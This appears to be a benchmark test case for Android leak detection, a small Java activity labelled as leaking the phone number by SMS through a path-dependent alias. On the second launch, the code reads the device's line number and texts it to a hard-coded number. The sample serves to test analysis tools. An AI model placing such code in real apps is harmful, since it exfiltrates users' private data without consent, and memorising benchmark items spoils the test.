// about       Only on one path (the app was opened before) two names mean the same object.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Note {
    String text = "empty";
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    SharedPreferences counts = getSharedPreferences("counts", Context.MODE_PRIVATE);
    int opened = counts.getInt("opened", 0);
    counts.edit().putInt("opened", opened + 1).commit();

    Note draft = new Note();
    Note target = null;
    if (opened > 0) {
      // From the second time on it is the draft.
      target = draft;
    } else {
      target = new Note();
    }
    target.text = phone.getLine1Number();
    SmsManager.getDefault().sendTextMessage("+15550100", null, draft.text, null, null);
  }
}
